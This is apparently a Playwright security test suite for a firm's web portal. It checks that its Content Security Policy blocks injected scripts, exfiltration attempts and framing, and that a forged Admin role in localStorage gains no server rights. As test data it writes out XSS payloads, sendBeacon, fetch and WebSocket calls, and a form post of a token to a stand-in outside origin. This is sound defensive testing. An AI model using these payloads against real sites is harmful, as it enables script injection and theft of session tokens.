// Scripts injected into the portal's own pages, sites that frame it, and a browser that lies about who is signed in.
import { expect, type Page } from '@playwright/test';
import { type Firm, seedFirm } from './firm.ts';
import { test } from './fixtures.ts';
import { callWith, type Row } from './hostile/call.ts';
import { trapScript } from './hostile/samples.ts';
import { type Elsewhere, openControl, openElsewhere, setTraps } from './hostile/traps.ts';
import { settle } from './settle.ts';

let firm: Firm;
let elsewhere: Elsewhere;
let control: Awaited<ReturnType<typeof openControl>>;
test.beforeAll(async ({ browser, server }) => {
  firm = await seedFirm(server.origin);
  elsewhere = await openElsewhere();
  control = await openControl(browser);
});
test.afterAll(async () => {
  await elsewhere.close();
  await control.close();
});

/** A tab of its own, because the browser tells on its console of what it refused, as it should. */
async function openTab(page: Page) {
  const tab = await page.context().newPage();
  const refused: string[] = [];
  tab.on('console', (message) => {
    if (/Content.Security.Policy/i.test(message.text())) refused.push(message.text());
  });
  return { tab, refused };
}

test('E3: a script that got into the page’s own HTML does not run', async ({ signIn, server }) => {
  const page = await signIn(firm.cpa, { fresh: true });
  const caught = setTraps(page.context(), server.origin, elsewhere);
  const { tab, refused } = await openTab(page);
  const smuggled = `<script>${trapScript(elsewhere.origin)}</script><img src="data:," onerror='${trapScript(elsewhere.origin)}'>
    <script src="${elsewhere.origin}/script.js"></script><base href="${elsewhere.origin}/">
    <iframe src="${elsewhere.origin}/frame"></iframe><object data="${elsewhere.origin}/object"></object>
    <link rel="stylesheet" href="${elsewhere.origin}/style.css"><link rel="prefetch" href="${elsewhere.origin}/prefetch">`;
  await tab.route('**/account-settings', async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('<body>', `<body>${smuggled}`);
    expect(body).toContain('canary');
    await route.fulfill({ response, body });
  });
  await tab.goto('/account-settings');
  // The portal itself continues to work.
  await expect(tab.getByRole('heading', { name: 'Account Settings Page' })).toBeVisible();
  await settle(tab);
  await expect.poll(() => refused.length).toBeGreaterThan(4);
  await control.run();
  expect(elsewhere.hits).toEqual([]);
  expect(caught().filter((entry) => !entry.startsWith(`GET ${elsewhere.origin}`))).toEqual([]);
  expect(await tab.evaluate('localStorage.getItem("canary")')).toBeNull();
  expect(await tab.evaluate('document.baseURI')).toBe(`${server.origin}/account-settings`);
  await tab.close();
});

test('E3: markup injected into the running page does nothing, and nothing is sent elsewhere', async ({
  signIn,
  server,
}) => {
  const page = await signIn(firm.cpa, { fresh: true });
  const caught = setTraps(page.context(), server.origin, elsewhere);
  const { tab, refused } = await openTab(page);
  await tab.goto('/account-settings');
  await expect(tab.getByRole('heading', { name: 'Account Settings Page' })).toBeVisible();
  const script = JSON.stringify(trapScript(elsewhere.origin));
  const outcome = await tab.evaluate(`(async () => {
    // From a frame on, it runs as the page's own scripts do and not as the test's.
    await new Promise(requestAnimationFrame);
    const added = document.createElement('script');
    added.textContent = ${script};
    document.body.append(added);
    const box = document.createElement('div');
    box.innerHTML = '<img src="data:," onerror="alert(1)"><a id="way" href="javascript:alert(1)">x</a>' +
      '<form id="form" action="${elsewhere.origin}/form" method="post"><input name="token" value="x"></form>';
    document.body.append(box);
    document.getElementById('way').click();
    document.getElementById('form').submit();
    const tried = async (work) => { try { await work(); return 'done' } catch { return 'refused' } };
    return {
      evaluated: await tried(() => eval('1')),
      made: await tried(() => new Function('return 1')()),
      fetched: await tried(() => fetch('${elsewhere.origin}/fetched', { mode: 'no-cors' })),
      beacon: navigator.sendBeacon('${elsewhere.origin}/beacon', 'x') && 'queued',
      worker: await tried(() => new Promise((resolve, reject) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
        worker.onmessage = resolve;
        worker.onerror = reject;
      })),
      socket: await tried(() => new Promise((resolve, reject) => {
        const socket = new WebSocket('${elsewhere.origin.replace('http', 'ws')}/socket');
        socket.onopen = resolve;
        socket.onerror = reject;
      })),
    };
  })()`);
  expect(outcome).toMatchObject({
    evaluated: 'refused',
    made: 'refused',
    fetched: 'refused',
    worker: 'refused',
    socket: 'refused',
  });
  await settle(tab);
  await expect.poll(() => refused.length).toBeGreaterThan(4);
  await control.run();
  expect(elsewhere.hits).toEqual([]);
  expect(caught().filter((entry) => entry.startsWith('dialog') || entry.includes('canary'))).toEqual([]);
  expect(tab.url()).toBe(`${server.origin}/account-settings`);
  await tab.close();
});

test('E3: no other site frames the portal', async ({ signIn, server }) => {
  const page = await signIn(firm.cpa, { fresh: true });
  const { tab } = await openTab(page);
  const framing = await openElsewhere({ '/framing': `<iframe src="${server.origin}/clients"></iframe>` });
  await tab.goto(`${framing.origin}/framing`);
  // What the browser shows in place of a page that it may not show.
  await expect.poll(() => tab.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/');
  await tab.close();
  await framing.close();
});

test('A28: a browser that claims to be an Admin’s gets no rights', async ({ signIn, server }) => {
  const page = await signIn(firm.clientUser, { failures: [403, 404], fresh: true });
  await expect(page.getByRole('heading', { name: 'Dashboard' }).first()).toBeVisible();
  const token = await page.evaluate<string>(`(() => {
    const user = JSON.parse(localStorage.getItem('user'));
    const capabilities = ['clients.manage', 'users.manage', 'roles.manage', 'report-types.manage', 'reports.upload',
      'documents.upload', 'files.delete', 'activity.read'];
    Object.assign(user, { roleId: 1, roleName: 'Admin', roleKey: 'admin', reach: 'all', capabilities });
    user.role = { id: 1, name: 'Admin' };
    localStorage.setItem('user', JSON.stringify(user));
    return localStorage.getItem('token');
  })()`);
  await page.goto('/users');
  await settle(page);
  // Whatever the page offers now, the server shows only the user's own rows and changes nothing.
  const api = (method: string, path: string, body?: unknown) =>
    callWith<Row[]>(server.origin, token, method, path, body);
  expect((await api('GET', '/api/users')).body.map(({ id }) => id)).toEqual([firm.clientUser.id]);
  expect((await api('GET', '/api/clients')).body.map(({ id }) => id)).toEqual([firm.clients[0].id]);
  const inPage = (method: string, path: string, body: unknown) =>
    page.evaluate<number>(`fetch(${JSON.stringify(path)}, {
      method: ${JSON.stringify(method)},
      headers: { authorization: 'Bearer ' + localStorage.getItem('token'), 'content-type': 'application/json' },
      body: ${JSON.stringify(JSON.stringify(body))},
    }).then((response) => response.status)`);
  const { cpa, clients, reportTypes } = firm;
  const person = { username: 'intruder', password: 'intruder', fullName: 'Intruder', roleId: 1 };
  for (const [method, path, body] of [
    ['POST', '/api/users', person],
    ['PUT', `/api/users/${firm.clientUser.id}`, { ...person, password: '' }],
    ['DELETE', `/api/users/${cpa.id}`, {}],
    ['POST', '/api/roles', { name: 'Intruders' }],
    ['PUT', '/api/permissions', { roleId: 3, capabilities: ['users.manage'], reach: 'all' }],
    ['POST', '/api/clients', {}],
    ['DELETE', `/api/clients/${clients[0].id}`, {}],
    ['POST', '/api/report-types', { name: 'Intruding' }],
    ['DELETE', `/api/report-types/${reportTypes[0].id}`, {}],
  ] as const) {
    expect([method, path, await inPage(method, path, body)]).toEqual([method, path, 403]);
  }
  expect(await inPage('DELETE', `/api/files/${firm.reports[0]?.id}`, {})).toBe(403);
  const offer = page.getByRole('button', { name: 'Add User' });
  if ((await offer.count()) > 0) {
    await offer.click();
    const form = page.getByRole('dialog');
    await form.getByLabel('Full Name').fill('Intruder');
    await form.getByRole('button', { name: 'Close' }).first().click();
  }
  const names = await firm.api.get<{ username: string }[]>('/api/users');
  expect(names.map(({ username }) => username)).not.toContain('intruder');
});
